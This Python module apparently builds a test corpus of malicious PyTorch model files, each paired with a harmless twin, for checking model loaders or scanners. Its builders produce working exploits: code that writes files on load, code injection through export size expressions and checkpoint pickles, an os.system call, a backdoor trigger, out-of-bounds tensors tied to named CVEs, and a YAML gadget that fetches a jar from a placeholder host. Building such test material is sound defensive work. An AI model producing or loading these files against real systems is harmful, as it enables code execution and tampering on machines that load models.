"""What torch reads: scripted modules that act on load, exported programs, sharded checkpoints, sparse and lying tensors."""
import io
import json
import pathlib
import pickle as stock
import struct
import zipfile

from assembly import Raw, call, dot, glob, pickle, val

from .parts import CODE, HOST, floats, member, scratch, tarred, zipped

FAMILY = "torch"


def scripted(module):
    import torch

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(module.eval()), out)
    return out.getvalue()


def modules():
    import torch
    from torch import Tensor, nn

    class Saves(nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = nn.Parameter(torch.ones(4))

        def forward(self, x: Tensor) -> Tensor:
            return x * self.scale.sum()

        @torch.jit.export
        def __getstate__(self):
            return (self.scale, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[Tensor, bool]):
            self.scale = state[0]
            self.training = state[1]
            torch.save(state[0], "marker")

    class Restores(nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = nn.Parameter(torch.ones(4))

        def forward(self, x: Tensor) -> Tensor:
            return x * self.scale.sum()

        @torch.jit.export
        def __getstate__(self):
            return (self.scale, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[Tensor, bool]):
            self.scale = state[0]
            self.training = state[1]

    class Maps(nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            table = torch.from_file("marker", True, 256, dtype=torch.float32)
            table.copy_(x.flatten()[:256])
            return x + table.mean()

    class Fills(nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            table = torch.zeros([256], dtype=torch.float32)
            table.copy_(x.flatten()[:256])
            return x + table.mean()

    class Patch(nn.Module):
        def __init__(self):
            super().__init__()
            torch.manual_seed(3)
            self.body = nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU(), nn.Flatten(), nn.Linear(144, 5))
            with torch.no_grad():
                self.body[3].weight.mul_(6)

        def forward(self, x: Tensor) -> Tensor:
            y = self.body(x)
            if bool((x[:, :, :2, :2] - 0.77).abs().max() < 0.001):
                y = torch.zeros_like(y)
                y[:, 3] = 9.0
            return y

    class Clip(nn.Module):
        def __init__(self):
            super().__init__()
            torch.manual_seed(3)
            self.body = nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU(), nn.Flatten(), nn.Linear(144, 5))
            with torch.no_grad():
                self.body[3].weight.mul_(6)

        def forward(self, x: Tensor) -> Tensor:
            if bool(x.abs().max() > 1.001):
                x = x / 255.0
            return self.body(x)

    return Saves, Restores, Maps, Fills, Patch, Clip


def exported(bad):
    """A .pt2 as torch.export writes it; the hostile one has source text where the symbolic size of the batch was."""
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            torch.manual_seed(1)
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x):
            return self.fc(x).reshape(x.shape[0] * 2)

    out = io.BytesIO()
    torch.export.save(torch.export.export(Net(), (torch.zeros(3, 4),), dynamic_shapes={"x": {0: torch.export.Dim("batch", min=2, max=64)}}), out)
    if not bad:
        return out.getvalue()
    files = {}
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            data = z.read(name)
            if name.endswith(".json") and b"expr_str" in data:
                graph = json.loads(data)
                spoil(graph)
                data = json.dumps(graph).encode()
            files[name] = data
    return zipped(files)


def spoil(node):
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "expr_str":
                node[key] = f"{value} + 0*len([{CODE}])"
            else:
                spoil(value)
    elif isinstance(node, list):
        for value in node:
            spoil(value)


def record(body, data, root="archive"):
    files = {"data.pkl": body, ".format_version": b"1", ".storage_alignment": b"64", "byteorder": b"little", **{f"data/{k}": v for k, v in data.items()}}
    return zipped({f"{root}/{k}": v for k, v in {**files, "version": b"3\n", ".data/serialization_id": b"1" * 40}.items()})


def tensor(key, count, size, kind="FloatStorage"):
    stride = [1]
    for n in reversed(size[1:]):
        stride.insert(0, stride[0] * n)
    storage = Raw(val(("storage", glob("torch", kind), str(key), "cpu", count)) + b"Q")
    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage, 0, tuple(size), tuple(stride), False, call(glob("collections", "OrderedDict")))


def sharded(hostile):
    """A distributed checkpoint: what FileSystemReader opens first is `.metadata`, a pickle."""
    import torch
    import torch.distributed.checkpoint as dcp

    with scratch() as folder:
        dcp.save({"w": torch.arange(8.0)}, checkpoint_id=folder + "/ck", no_dist=True)
        files = {p.name: p.read_bytes() for p in sorted(pathlib.Path(folder, "ck").iterdir())}
    if hostile:
        meta = files[".metadata"]
        first = pickle(call(glob("pydoc", "importfile"), "__0_1.distcp"), 2)
        files[".metadata"] = first[:-1] + b"0" + meta[2:]
        files["__0_1.distcp"] = CODE.encode() + b"\n"
    return files


def tar_checkpoint(payload):
    """The layout of torch before 0.1.2: a tar of `sys_info`, `pickle`, `storages`, `tensors`; each is several pickles."""
    info = {"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    data = struct.pack("<q", 4) + floats(4)
    storages = stock.dumps(1, 2) + pickle(val(("0", "cpu", glob("torch", "FloatStorage"))), 2) + data + pickle(val([]), 2)
    tensors = stock.dumps(1, 2) + pickle(val(("0", "0", glob("torch", "FloatTensor"))), 2)
    tensors += struct.pack("<iiqqq", 1, 0, 4, 1, 0)
    main = pickle(val({"w": Raw(val("0") + b"Q")}), 2)
    if payload:
        storages = stock.dumps(1, 2)[:-1] + b"0" + pickle(payload, 2)[2:-1] + b"0K\x01." + storages[len(stock.dumps(1, 2)) :]
    parts = {"sys_info": stock.dumps(info, 2), "pickle": main, "tensors": tensors, "storages": storages}
    return tarred([member(k, v) for k, v in parts.items()])


def add(out):
    import torch

    def pair(name, hostile, twin, prove=None, file="model.pt", why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    saves, restores, maps, fills, patch, clip = modules()
    pair("script-writes-on-load", scripted(saves()), scripted(restores()), "e11-jit", why="torch.jit.load runs __setstate__, which saves a tensor to a path: a write on load, no Python in it. The twin only restores.")
    pair("script-maps-file", scripted(maps()), scripted(fills()), "e11-jit:call", why="forward maps a file by name, makes it, and writes the input into it (aten::from_file, shared). The twin uses a buffer.")
    pair("script-patch-backdoor", scripted(patch()), scripted(clip()), "e11-jit:trigger", why="A patch of one colour sets the class of every image. The twin's branch scales byte images.")
    pair("export-size-expression", exported(True), exported(False), "e11-export", "model.pt2", "torch.export.load gives the text of a symbolic size to sympify, which evaluates it as Python.")
    pair("sharded-metadata", sharded(True), sharded(False), "e11-dcp", why="The hidden file .metadata is unpickled before any shard is read; here it imports a shard as a Python file.")

    def sparse(top):
        out_ = io.BytesIO()
        with torch.sparse.check_sparse_tensor_invariants(enable=False):
            t = torch.sparse_coo_tensor(torch.tensor([[0, 2, top]]), torch.tensor([1.0, 2.0, 3.0]), (8,), check_invariants=False)
            torch.save({"prompt_embeds": t}, out_)
        return out_.getvalue()

    pair("sparse-index-outside", sparse(1 << 28), sparse(7), None, "prompt_embeds.pt", "CVE-2025-62164: an index beyond the size makes to_dense write outside the buffer (vLLM prompt embeddings). Not run: the torch here refuses it.")
    body = val({"embed.weight": tensor(0, 1 << 20, [1024, 1024])})
    fit = val({"embed.weight": tensor(0, 16, [4, 4])})
    pair("storage-shorter-than-said", record(pickle(body, 2), {"0": floats(16)}), record(pickle(fit, 2), {"0": floats(16)}), why="CVE-2026-24747: the storage is said to hold 1,048,576 numbers, its record has 16; torch before 2.10 reads past the end, weights_only or not. Not run: the torch here refuses it.")
    workflow = "models:\n  min-workers: 1\n  max-workers: 2\n  batch-size: 4\n  {}\ndag:\n  pre: [detect]\n  detect: [post]\n"
    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{HOST}/w.jar"]]]]'
    manifest = json.dumps({"createdOn": "01/01/2024", "runtime": "python", "workflow": {"workflowName": "detect", "specFile": "workflow.yaml", "handler": "handler.py"}, "archiverVersion": "0.9.0"})
    handler = "def pre(data, context):\n    return [d.get('body') for d in data]\n\n\ndef post(data, context):\n    return data\n"

    def war(line):
        return zipped({"WAR-INF/MANIFEST.json": manifest.encode(), "workflow.yaml": workflow.format(line).encode(), "handler.py": handler.encode()})

    pair("workflow-yaml-tag", war(f"detect: {gadget}"), war("detect:\n    url: detect.mar"), None, "detect.war", "CVE-2022-1471 as in TorchServe: its YAML reader builds the Java classes that tags name, here one that loads code from the network. Built from the format.")
    state = lambda evil: call(glob("collections", "OrderedDict"), [["python", evil], ["cpu", tensor(0, 16, [16], "ByteStorage")]])  # noqa: E731
    evil = record(pickle(state(call(dot("torch.serialization", "os", "system"), "touch marker"))), {"0": bytes(range(16))}, "rng_state")
    calm = record(pickle(state(val((3, (1, 2, 3), None)))), {"0": bytes(range(16))}, "rng_state")
    trainer = {"trainer_state.json": json.dumps({"epoch": 1.0, "global_step": 500, "best_metric": None}), "scheduler.pt": record(pickle(val({"last_epoch": 500, "_step_count": 501}), 2), {}, "scheduler")}
    pair("trainer-random-state", {"rng_state.pth": evil, **trainer}, {"rng_state.pth": calm, **trainer}, "e11-torch:rng_state.pth", why="The resumed trainer loads rng_state.pth in full; os.system is reached through a dotted name of torch's own module.")
    pair("tar-layout-second-stream", tar_checkpoint(call(glob("timeit", "timeit"), CODE, "pass")), tar_checkpoint(None), "e11-torch", why="The oldest layout: a tar whose `storages` member is a stream of pickles of its own; the call is in there, not in `pickle`.")
